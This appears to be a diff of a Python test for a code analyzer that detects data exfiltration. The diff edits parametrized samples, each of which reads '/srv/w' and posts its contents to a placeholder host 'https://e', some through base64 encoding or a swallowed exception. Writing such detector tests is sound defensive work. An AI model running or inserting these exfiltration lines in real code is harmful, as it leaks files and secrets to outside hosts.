@@ -136,10 +136,10 @@ def call_of(code: str, name: str) -> Invocation:
     [
         "import requests\nrequests.post('https://e', data=open('/srv/w', 'rb'))",
         "import requests\nwith open('/srv/w', 'rb') as f:\n    requests.post('https://e', files={'f': f})",
-        "import requests, base64\nd = base64.b64encode(open('/srv/w').read())\nfor p in d:\n    requests.post('https://e', p)",
+        "import requests\nd = b64encode(open('/srv/w').read())\nfor p in d:\n    requests.post('https://e', p)",
         "import requests\nfrom pathlib import Path\nrequests.post('https://e', data=(Path('/srv') / 'w').read_bytes())",
         "import os, requests\np = os.path.join('/srv', 'w')\nrequests.post(f'https://{p}', data=p)",
-        "import requests\ndef go():\n    try:\n        requests.post('https://e', open('/srv/w').read())\n    except E:\n        pass",
+        "def go():\n    try:\n        requests.post('https://e', open('/srv/w').read())\n    except E:\n        pass",
         "import requests\nrequests.post('https://e', data=[c for c in open('/srv/w', 'rb')])",
     ],
 )
